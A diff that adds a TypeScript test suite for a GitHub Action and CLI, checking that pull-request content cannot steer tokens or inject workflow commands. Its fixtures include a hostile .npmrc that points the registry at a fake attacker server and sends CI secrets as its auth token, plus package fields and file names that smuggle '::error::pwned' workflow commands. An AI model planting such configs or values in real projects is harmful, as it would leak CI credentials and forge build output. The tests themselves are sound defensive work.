@@ -1,0 +1,159 @@
+/**
+ * The action's trust boundary, tried as an attacker would, on the bundled action
+ * (Node 24) with a loopback registry and GitHub API: nothing in a pull request
+ * steers a token, forges a verdict or writes a command.
+ */
+import { spawnSync } from 'node:child_process'
+import { type IncomingHttpHeaders, type Server, createServer } from 'node:http'
+import type { AddressInfo } from 'node:net'
+import { mkdirSync, readFileSync, writeFileSync } from 'node:fs'
+import { join } from 'node:path'
+import { afterEach, beforeAll, describe, expect, it } from 'vitest'
+import { ROOT } from './helpers/cli.js'
+import { NODE24, pullRequestEvent, runAction } from './helpers/action.js'
+import { FakeGitHub } from './helpers/github-api.js'
+import { nerfDart, publish, registryUrl, uniqueName, writePackageFolder } from './helpers/registry.js'
+import { sourceMap, tempDir, writeTarball } from './helpers/tarball.js'
+
+const SECRETS = { 'INPUT_GITHUB-TOKEN': 'gh-token-secret', NODE_AUTH_TOKEN: 'npm-token-secret', ACTIONS_RUNTIME_TOKEN: 'runtime-token-secret', ACTIONS_ID_TOKEN_REQUEST_TOKEN: 'oidc-token-secret' }
+const stops: Array<() => Promise<void>> = []
+
+/** A registry that should never be asked: it records every request, headers included, and answers 404. */
+async function attacker(): Promise<{ url: string; requests: Array<{ url?: string; headers: IncomingHttpHeaders }> }> {
+  const requests: Array<{ url?: string; headers: IncomingHttpHeaders }> = []
+  const server: Server = createServer((req, res) => {
+    requests.push({ url: req.url, headers: req.headers })
+    res.writeHead(404, { 'content-type': 'application/json' })
+    res.end('{"error":"not found"}')
+  })
+  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
+  stops.push(() => new Promise<void>((resolve) => server.close(() => resolve())))
+  return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}/`, requests }
+}
+
+async function github(options: ConstructorParameters<typeof FakeGitHub>[0] = {}): Promise<FakeGitHub> {
+  const server = await new FakeGitHub(options).start()
+  stops.push(() => server.stop())
+  return server
+}
+
+afterEach(async () => {
+  await Promise.all(stops.splice(0).map((stop) => stop()))
+})
+
+let name: string
+beforeAll(async () => {
+  const built = spawnSync(process.execPath, [join(ROOT, 'scripts/bundle.mjs')], { cwd: ROOT, encoding: 'utf8' })
+  expect(built.status, built.stderr).toBe(0)
+  name = uniqueName('trust')
+  await publish(name, '1.0.0', [{ path: 'index.js', content: 'export {}\n' }])
+})
+
+/** What actions/setup-node leaves: a user .npmrc naming the registry, its token from NODE_AUTH_TOKEN. */
+function setupNodeUserconfig(): string {
+  const file = join(tempDir(), 'setup-node.npmrc')
+  writeFileSync(file, `registry=${registryUrl()}\n${nerfDart()}:_authToken=\${NODE_AUTH_TOKEN}\n`)
+  return file
+}
+
+function runnerEnv(userconfig: string): NodeJS.ProcessEnv {
+  // A fresh home, as on a fresh runner: npm's once-a-day update check would run there.
+  return { HOME: tempDir(), NPM_CONFIG_USERCONFIG: userconfig, ...SECRETS }
+}
+
+describe('tokens go only where the workflow said', () => {
+  it("a pull request's .npmrc cannot send the job's tokens to its host: one warning naming the file, the baseline from the workflow's registry", async () => {
+    const evil = await attacker()
+    const folder = writePackageFolder(join(tempDir(), 'pkg'), { name, version: '1.0.1' }, {
+      'index.js': 'export {}\n',
+      '.npmrc': `registry=${evil.url}\n${nerfDart(evil.url)}:_authToken=\${INPUT_GITHUB-TOKEN}|\${NODE_AUTH_TOKEN}|\${ACTIONS_RUNTIME_TOKEN}|\${ACTIONS_ID_TOKEN_REQUEST_TOKEN}\n`,
+    })
+    const result = await runAction({ path: '.' }, { workspace: folder, env: runnerEnv(setupNodeUserconfig()) })
+    expect(result.code, result.stdout + result.stderr).toBe(0)
+    expect(evil.requests).toEqual([])
+    const warnings = result.commands.filter((c) => c.command === 'warning')
+    expect(warnings).toHaveLength(1)
+    expect(warnings[0].line).toContain(`${join(folder, '.npmrc')} chooses a registry this workflow did not configure`)
+    const report = JSON.parse(readFileSync(result.outputs.report, 'utf8'))
+    expect(report.packages[0].baseline).toEqual({ version: '1.0.0', source: 'registry', registry: registryUrl() })
+    for (const secret of Object.values(SECRETS)) expect(result.stdout + result.summary).not.toContain(secret)
+  })
+
+  it('publishConfig.registry in the pull request cannot steer the request either', async () => {
+    const evil = await attacker()
+    const folder = writePackageFolder(join(tempDir(), 'pkg'), { name, version: '1.0.1', publishConfig: { registry: `${evil.url}\n::error::pwned` } }, { 'index.js': 'export {}\n' })
+    const result = await runAction({ path: '.' }, { workspace: folder, env: runnerEnv(setupNodeUserconfig()) })
+    expect(result.code, result.stdout + result.stderr).toBe(0)
+    expect(evil.requests).toEqual([])
+    const warnings = result.commands.filter((c) => c.command === 'warning')
+    expect(warnings).toHaveLength(1)
+    expect(warnings[0].line).toContain(`${join(folder, 'package.json')}: publishConfig.registry`)
+    expect(result.stdout).not.toMatch(/^\s*::error::pwned/m)
+    expect(JSON.parse(readFileSync(result.outputs.report, 'utf8')).packages[0].baseline.registry).toBe(registryUrl())
+  })
+
+  it('a publishConfig.registry or .npmrc that names a workflow registry is used without a warning', async () => {
+    const folder = writePackageFolder(join(tempDir(), 'pkg'), { name, version: '1.0.1', publishConfig: { registry: registryUrl() } }, { 'index.js': 'export {}\n', '.npmrc': `registry=${registryUrl()}\n` })
+    const result = await runAction({ path: '.', registry: registryUrl() }, { workspace: folder, env: runnerEnv(join(tempDir(), 'none.npmrc')) })
+    expect(result.code, result.stdout).toBe(0)
+    expect(result.commands.filter((c) => c.command === 'warning')).toEqual([])
+    const viaUserconfig = await runAction({ path: '.' }, { workspace: folder, env: runnerEnv(setupNodeUserconfig()) })
+    expect(viaUserconfig.code, viaUserconfig.stdout).toBe(0)
+    expect(viaUserconfig.commands.filter((c) => c.command === 'warning')).toEqual([])
+  })
+})
+
+/** The bundled CLI, asynchronously (a loopback server in this process must keep answering). */
+async function runDistCli(args: string[], env: NodeJS.ProcessEnv, cwd: string): Promise<{ code: number; stdout: string; stderr: string }> {
+  const { spawn } = await import('node:child_process')
+  return new Promise((resolve, reject) => {
+    const child = spawn(NODE24, [join(ROOT, 'dist/cli.js'), ...args], { cwd, env, timeout: 60_000 })
+    let stdout = ''
+    let stderr = ''
+    child.stdout.on('data', (chunk: Buffer) => (stdout += chunk.toString('utf8')))
+    child.stderr.on('data', (chunk: Buffer) => (stderr += chunk.toString('utf8')))
+    child.on('error', reject)
+    child.on('close', (code) => resolve({ code: code ?? -1, stdout, stderr }))
+  })
+}
+
+const cliEnv = (home: string): NodeJS.ProcessEnv => ({ PATH: process.env.PATH, HOME: home, NPM_CONFIG_USERCONFIG: join(home, '.npmrc'), ...SECRETS })
+
+describe('the CLI in a workflow', () => {
+  it("expands only npm's variables in a .npmrc: the action's and the runner's tokens never reach a registry", async () => {
+    const evil = await attacker()
+    const folder = writePackageFolder(join(tempDir(), 'pkg'), { name, version: '1.0.1' }, {
+      'index.js': 'export {}\n',
+      '.npmrc': `registry=${evil.url}\n${nerfDart(evil.url)}:_authToken=\${INPUT_GITHUB-TOKEN}|\${ACTIONS_RUNTIME_TOKEN}|\${ACTIONS_ID_TOKEN_REQUEST_TOKEN}|\${NODE_AUTH_TOKEN}\n`,
+    })
+    const result = await runDistCli(['.'], cliEnv(tempDir()), folder)
+    expect(result.code, result.stderr).toBe(0) // 404: a first release
+    // pack-guard asks for the package; npm (packing the folder) asks nothing, not even for its own update.
+    expect(evil.requests.map((r) => r.url)).toEqual([`/${name}`])
+    const sent = evil.requests.map((r) => r.headers.authorization ?? '').join('\n')
+    for (const secret of [SECRETS['INPUT_GITHUB-TOKEN'], SECRETS.ACTIONS_RUNTIME_TOKEN, SECRETS.ACTIONS_ID_TOKEN_REQUEST_TOKEN]) expect(sent).not.toContain(secret)
+    expect(sent).toContain('${INPUT_GITHUB-TOKEN}|${ACTIONS_RUNTIME_TOKEN}|${ACTIONS_ID_TOKEN_REQUEST_TOKEN}|npm-token-secret')
+  })
+
+  it('writes no workflow command: not from file names, a baseline version or an echoed registry URL', async () => {
+    const dir = tempDir()
+    const candidate = await writeTarball(dir, 'c.tgz', [{ path: '::error title=Release approved::pwned.js', content: 'x' }, { path: 'x ##[error]legacy.js', content: 'x' }, { path: 'dist/a.js.map', content: sourceMap(2, true) }], { name: 'p', version: '1.1.0' })
+    const baseline = await writeTarball(dir, 'b.tgz', [{ path: 'index.js', content: 'x' }], { name: 'p', version: '1.0.0\n::error::pwned\u001b[31m' })
+    for (const format of ['text', 'markdown', 'json']) {
+      const result = await runDistCli([candidate, '--baseline', baseline, '--format', format], cliEnv(dir), dir)
+      expect(result.code, result.stderr).toBe(1)
+      for (const line of (result.stdout + result.stderr).split(/\r?\n/)) {
+        expect(line).not.toMatch(/^\s*::/)
+        expect(line).not.toContain('##[')
+      }
+    }
+    const text = await runDistCli([candidate, '--baseline', baseline], cliEnv(dir), dir)
+    expect(text.stdout).toContain('against 1.0.0\\x0a:\\x3aerror:\\x3apwned\\x1b[31m')
+    // An echoed input: publishConfig.registry with a newline reaches stderr as one escaped line.
+    const folder = writePackageFolder(join(dir, 'pkg'), { name: 'p', version: '1.1.0', publishConfig: { registry: 'not a url\n::error::pwned' } }, { 'index.js': 'x' })
+    const bad = await runDistCli(['.'], cliEnv(dir), folder)
+    expect(bad.code).toBe(2)
+    expect(bad.stderr.trimEnd().split('\n')).toHaveLength(1)
+    expect(bad.stderr).not.toMatch(/^\s*::/m)
+  })
+})
